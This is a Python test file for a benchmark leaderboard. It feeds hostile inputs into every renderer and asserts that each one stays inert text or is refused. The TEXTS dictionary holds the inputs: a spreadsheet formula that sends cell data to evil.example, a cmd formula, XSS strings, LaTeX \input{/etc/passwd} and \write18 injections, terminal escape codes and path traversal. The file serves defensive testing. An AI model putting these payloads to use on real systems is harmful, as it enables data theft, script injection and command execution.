"""Records from strangers: each is refused in one sentence, or does nothing wherever it is shown."""

import csv
import hashlib
import html.parser
import io
import json
import re
import resource
import time
from collections import Counter
from contextlib import suppress
from dataclasses import replace
from functools import cache
from pathlib import Path
from urllib.parse import unquote

import gradio as gr
import pytest
from markdown_it import MarkdownIt
from matplotlib.text import Text
from rich.console import Console
from typer.testing import CliRunner

from bench import cli as bench
from bench.errors import RecordError
from bench.record import DatasetInfo, Failure, Method, Record, Row, Speed, Summary, read, read_values, write_rows
from bench.report import figures, page, render
from bench.report.escape import terminal_text
from bench.report.table import tables
from leaderboard import cli, submission
from leaderboard.figures import card_table
from leaderboard.page import CSS, board, explorer, submit

PLAIN = "harmless"
TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "wide": "＝1+1",
    "picture": "<img src=x onerror=\"document.title='XSS'\">",
    "script": "</td></table><script>alert(1)</script>",
    "attribute": "\"' onmouseover='alert(1)' x=\"",
    "comment": "<!-- /figures -->",
    "entity": "&lt;img src=x&gt; &#60;b&#62;",
    "link": "[click](javascript:alert(1)) **b** | c",
    "picture link": "![x](https://evil.example/x.png)",
    "address": "<https://evil.example> https://evil.example www.evil.example a@evil.example",
    "heading": "# _x_ ~~y~~",
    "list": "1. x",
    "code": "``` `x` \\",
    "input": r"\input{/etc/passwd} $x$ %",
    "braces": "}}}{\\write18{id}",
    "entry": "@misc{x, title = {y}}",
    "paper": "https://x/}\\input{/etc/passwd}%0a",
    "option": "[2cm] x",
    "star": "*x",
    "mathematics": r"$\frac{1}{$ $$\rule{99em}{99em}$$ $\undefined$",
    "markup": "[red]x[/red] [link=https://evil.example]y[/link] [/bad]",
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "control": "\x9b2J \x7f",
    "backwards": "\u202egnp.exe",
    "hidden": "a\u200b\u2066b",
    "lines": "a\r\n% b\n\n# c\u2028d",
    "zero": "a\0b",
    "half": "\ud800",
    "template": "{{ 7 * 7 }} {% raw %}",
    "path": "../../../etc/passwd",
    "long": "x" * 1_000_000,
    "word": "x" * 999,
}
FIELDS = (
    "name",
    "license",
    "paper",
    "revision",
    "trained_on",
    "dataset",
    "protocol",
    "metric",
    "unit",
    "reason",
    "cpu",
)
FIELDS += ("device", "image", "fingerprint")


def stranger(method="harmless", **said) -> tuple[Record, list[Row]]:
    """Make a record that says these texts, and its values."""
    text = dict.fromkeys(FIELDS, PLAIN) | {"name": method, "dataset": "photographs", "protocol": "native-v1"} | said
    rows = [Row(id=f"{text['image']}{i or ''}", width=8, height=8, values={text["metric"]: 20.0 + i}) for i in range(3)]
    failed = Failure(id=rows[2].id, stage="read", reason=text["reason"])
    rows[2] = replace(rows[2], values={}, failures=(failed,))
    summary = Summary(mean=20.5, low=20, high=21, count=2, direction="up", unit=text["unit"], reference=True)
    record = Record(
        method=Method(
            name=text["name"], license=text["license"], paper=text["paper"], revision=text["revision"],
            trained_on=(text["trained_on"],), parameters=5,
        ),
        dataset=DatasetInfo(name=text["dataset"], samples=3, pairs=3, fingerprint=text["fingerprint"]),
        protocol=text["protocol"], metrics={text["metric"]: summary}, failures=(failed,), key="k",
        contaminated=(text["trained_on"],), environment={"cpu": text["cpu"]}, created="2025-03-01T12:00:00Z",
        speed=Speed(seconds_median=0.5, megapixels_median=0.5, device=text["device"], dtype="float32", threads=1),
    )  # fmt: skip
    return record, rows


def put(folder: Path, record: Record, rows: list[Row]) -> Path:
    path = record.write(folder)
    write_rows(path.with_suffix(".parquet"), rows, list(record.metrics), record.key)
    return path


def one_sentence(message: str, folder: Path) -> bool:
    return message.isprintable() and len(message) < 500 and str(folder) not in message


class Tags(html.parser.HTMLParser):
    """The tags of a page and the names of their attributes; of addresses also what they begin with."""

    def __init__(self, text: str):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        addresses = [re.split("[,;]", value)[0] for name, value in attributes if name in ("href", "src")]
        self.found.append((tag, [name for name, _ in attributes], addresses))


TABLE = ("table", "thead", "tbody", "tr", "th", "td")
TEXT = {"inline", "text", "text_special", "paragraph"}


def structure(markdown: str, *more: str) -> Counter:
    """Count the parts of a text, which are text, and whatever else the project itself writes there."""
    assert not re.search(r"(?<!\\)://|\bwww\.", markdown), "an address becomes a link"
    check_terminal(markdown)
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parts = [part for block in reader.parse(markdown) for part in (block, *(block.children or ()))]
    found = Counter(part.type.removesuffix("_open") for part in parts if not part.type.endswith("_close"))
    assert found.keys() <= {*TEXT, *more}
    return found


def check_csv(text: str) -> None:
    header, *rows = csv.reader(io.StringIO(text))
    assert all(len(row) == len(header) for row in rows)
    for cell in (cell for row in (header, *rows) for cell in row if not re.fullmatch(r"-?[\d.]+(e[+-]\d+)?", cell)):
        assert not cell.startswith(tuple("=+-@\t\r＝＋－＠")) and cell.isprintable()


COMMANDS = {"textbackslash", "textasciitilde", "textasciicircum", "textbraceleft", "textbraceright", "textbf", "url"}
COMMANDS |= {"begin", "end", "toprule", "midrule", "bottomrule", "uparrow", "downarrow", "infty", "times", "dagger"}


def check_latex(text: str, columns: int) -> None:
    """Nothing but the table's own commands is there, and each row has its cells."""
    lines = [line for line in text.splitlines() if line and not line.startswith("% ")]
    assert lines[0] == r"\begin{tabular}{l" + "r" * (columns - 1) + "}" and lines[-1] == r"\end{tabular}"
    for line in lines[1:-1]:
        assert set(re.findall(r"\\([A-Za-z]+)", line)) <= COMMANDS
        bare = re.sub(r"\\[A-Za-z]+(\{\})?|\\[\\&%$#_{}]|\$\^?\\[a-z]+\$", "", line.replace(r"\\", ""))
        if "rule" not in line:
            assert bare.count("&") == columns - 1
        assert not set(bare) & set("\\%#_~") and not line.startswith(("[", "*"))
        assert re.sub(r"\$\^?\$", "", bare).count("$") == 0


def check_bibtex(text: str, entries: int) -> None:
    """Braces balance as BibTeX counts them, and an entry begins only where none is open."""
    depth, found = 0, 0
    for letter in text:
        found += letter == "@" and not depth
        depth += (letter == "{") - (letter == "}")
        assert depth >= 0
    assert (depth, found) == (0, entries)
    assert set(re.findall(r"\\([A-Za-z]+)", text)) <= COMMANDS
    keys = re.findall(r"^@misc\{(.*),$", text, re.MULTILINE)
    assert len(set(keys)) == entries and all(re.fullmatch(r"[A-Za-z0-9._-]+", key) for key in keys)


def check_terminal(text: str) -> None:
    assert all(line.isprintable() for line in text.splitlines())


def exports(found) -> dict[str, str]:
    text = board.exports(found)
    assert [tag for tag, *_ in Tags(text).found] == ["p", "span", "a", "a", "a", "a"]
    links = re.findall(r"download='([^']*)' href='data:text/(?:csv|plain);charset=utf-8,([^']*)'", text)
    assert len(links) == 4 and len(re.findall("href=", text)) == 4
    return {name.rpartition(".")[2]: unquote(data) for name, data in links}


def show_everywhere(path: Path, record: Record, folder: Path) -> None:
    """Render a record as the board, the reports, the card and the pull request do, and find nothing alive."""
    boards = board.Boards(folder)
    assert not boards.broken
    [found] = [table for group in boards.tables.values() for table in group.values() if record in table.records]
    [record] = [entry for entry in found.records if entry == record]
    columns = len(render.headings(found))

    grid = board.grid(found)
    assert all(cell.isprintable() for row in grid["metadata"]["display_value"] for cell in row)
    assert all(name.isprintable() for name in (*grid["headers"], *boards.tables, *board.licences(found)))
    files = exports(found)
    check_csv(files["csv"])
    check_latex(files["tex"], columns)
    check_bibtex(files["bib"], 1 + sum(entry.method.paper is not None for entry in found.records))
    check_terminal(render.as_json([found]))
    assert json.loads(render.as_json([found]))[0]["rows"][0]["method"]["license"] == found.records[0].method.license

    a = boards.scored(record)
    [metric] = record.metrics
    difference, lines = explorer.side_by_side(a, a, metric)
    assert all(text[0].isprintable() for text in board._rows(lines)["metadata"]["display_value"])
    verdict = explorer.verdict(difference, *[record.method.name] * 2)
    _, remark = explorer.pictures((record, record), lines[0][0], None)
    checked = submission.check(path, folder)
    parts = structure(files["md"], "heading", "softbreak", "strong", *TABLE)
    best = sum(len(found.best(column)) for column in found.columns)
    assert [parts[name] for name in ("heading", "th", "tr", "strong")] == [1, columns, 1 + len(found.records), best]
    assert structure(board.notes(found), "strong")["strong"] == 5
    assert structure(verdict, "strong")["strong"] == 3
    assert structure(remark, "code_inline")["code_inline"] == 1
    assert structure(checked.markdown(), "strong", "bullet_list", "list_item")["strong"] == len(checked.findings)
    assert structure(card_table([record]), "softbreak", *TABLE)["td"] == 4
    assert {tag for tag, *_ in Tags(submit.render(checked, None)).found} <= {"p", "table", "tbody", "tr", "th", "td"}
    assert Tags(page.of_run(record, a.rows, {})).found == harmless_page()
    console = Console(file=io.StringIO(), width=10_000, color_system=None)
    console.print(terminal_text(record.method.license))
    check_terminal(console.file.getvalue())


@cache
def harmless_page() -> list:
    record, rows = stranger()
    return Tags(page.of_run(record, {row.id: row for row in rows}, {})).found


def raw(folder: Path, field: str, text: str) -> Path:
    """Write files that say `text`, with the hashes that belong to it, whatever this project thinks of it."""
    try:
        return put(folder, *stranger(**{field: text}))
    except (ValueError, RecordError):
        path = put(folder, *stranger(**{field: "REPLACED"}))
        content = json.loads(path.read_text().replace("REPLACED", json.dumps(text)[1:-1]))
        del content["sha256"]
        digest = hashlib.sha256(json.dumps(content, sort_keys=True).encode()).hexdigest()
        path.write_text(json.dumps(content | {"sha256": digest}))
        return path


@pytest.mark.slow
def test_two_hundred_records_of_strangers_do_no_harm(tmp_path, monkeypatch):
    monkeypatch.setattr(page, "drawings", lambda *_: {})  # a test of their own draws
    always = ("name", "license", "paper", "image")
    cases = [
        (field, name)
        for number, name in enumerate(TEXTS)
        for place, field in enumerate(FIELDS)
        if field in always or (number + place) % 3 == 0
    ]
    harmless_page()
    peak, began, slowest, refused = memory(), time.process_time(), 0.0, 0
    for number, (field, name) in enumerate(cases):
        folder, start = tmp_path / f"{number}", time.process_time()
        put(folder, *stranger("another"))
        path = raw(folder, field, TEXTS[name])
        try:
            record = read(path)
            read_values(path, record)
        except RecordError as error:
            refused += 1
            [finding] = submission.check(path, folder).findings
            assert (finding.subject, finding.verdict, finding.text) == ("files", "wrong", error.for_visitors())
            assert one_sentence(error.for_visitors(), folder), (field, name)
            assert len(board.Boards(folder).broken) <= 1
        else:
            show_everywhere(path, record, folder)
        slowest = max(slowest, time.process_time() - start)
    assert len(cases) > 200 and 20 < refused < len(cases) / 3
    print(len(cases), refused, time.process_time() - began, slowest, memory())
    assert time.process_time() - began < 60 and slowest < 5 and memory() - peak < 0.5


def memory() -> float:
    """The most memory that this process had so far, in GB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1e6


@pytest.mark.slow
@pytest.mark.parametrize("name", ["mathematics", "lines", "terminal", "backwards", "braces", "word"])
def test_figures_show_texts_as_they_are(name):
    """Drawing fails where a text is taken for mathematics that is none."""
    said = {}
    for field in FIELDS:
        with suppress(ValueError):
            stranger(**{field: TEXTS[name]})
            said[field] = TEXTS[name]
    pair = [stranger(), stranger(**said | {"dataset": "photographs", "protocol": "native-v1", "fingerprint": PLAIN})]
    [found] = tables(record for record, _ in pair)
    values = [{f"{TEXTS[name]}{i}": float(i * i + number) for i in range(3)} for number in range(2)]
    label = found.columns[-1].label
    drawn = [
        figures.quality_against_speed(found, found.columns[-1].name),
        figures.scatter(*values, (TEXTS[name], "b"), TEXTS[name], "up"),
        figures.distributions({"m": {TEXTS[name]: [1.0, 2.0]}}, {"m": label}, TEXTS[name]),
        figures.contact_sheet([(TEXTS[name], [None])], [TEXTS[name]]),
    ]
    for figure in drawn:
        figure.savefig(io.BytesIO(), format="svg")
        for text in figure.findobj(Text):
            if "mathdefault" not in text.get_text():  # the ticks of a logarithmic axis are the figure's own
                assert "$" not in text.get_text() or not text.get_parse_math()
                assert all(line.isprintable() for line in text.get_text().splitlines())


def test_command_lines_print_texts_as_they_are(tmp_path):
    said = {
        field: TEXTS["terminal"] for field in ("license", "paper", "revision", "trained_on", "cpu", "reason", "unit")
    }
    record, rows = stranger(TEXTS["markup"], **said)
    path = put(tmp_path, record, rows)
    (tmp_path / "\x1b[2J.json").write_text("{")
    run = CliRunner().invoke
    for form in render.FORMATS:
        shown = run(cli.app, ["table", "--results", str(tmp_path), "--format", form])
        check_terminal(shown.output)
        assert shown.exit_code == 1 and "left out" in shown.stderr
    for command in (
        ["report", str(path), "--format", "json"],
        ["compare", str(path), str(path)],
        ["report", "--results", str(tmp_path)],
    ):
        shown = run(bench.app, command)
        check_terminal(shown.output)
    assert TEXTS["markup"] in run(bench.app, ["compare", str(path), str(path)]).stdout
    shown = run(cli.app, ["submit", str(path), "--dry-run", "--results", str(tmp_path)])
    check_terminal(shown.output)


def test_a_strangers_record_is_text_on_the_page(browser, tmp_path, monkeypatch):
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "served"))
    texts = " ".join(TEXTS[name] for name in ("picture", "script", "link", "picture link", "address", "mathematics"))
    said = dict.fromkeys(("license", "trained_on", "cpu", "image"), texts) | {"trained_on": TEXTS["picture"]}
    put(tmp_path / "results", *stranger(TEXTS["picture"] + TEXTS["mathematics"], **said))
    put(tmp_path / "results", *stranger(TEXTS["picture link"], **said))
    with gr.Blocks(analytics_enabled=False) as page:
        board.leaderboard(tmp_path / "results")
    page.queue().launch(prevent_thread_lock=True, quiet=True, css_paths=CSS)
    shown = browser.new_page()
    asked = []
    shown.on("request", lambda request: asked.append(request.url))
    shown.goto(page.local_url)
    shown.locator("#methods [role=gridcell]").first.wait_for()
    shown.locator("#images [role=gridcell]").first.click()
    shown.get_by_text("are not ours to show").wait_for()
    places = "#notes, #verdict, #remark, #methods, #images"
    for alive in ("img", "a[href]", "script", "b", ".katex"):
        assert shown.locator(places).locator(alive).count() == 0, alive
    assert (
        "<img src=x" in shown.locator("#notes").inner_text() and "<img src=x" in shown.locator("#methods").inner_text()
    )
    assert shown.title() != "XSS" and not [url for url in asked if "evil" in url or url.endswith("/x")]
    page.close()
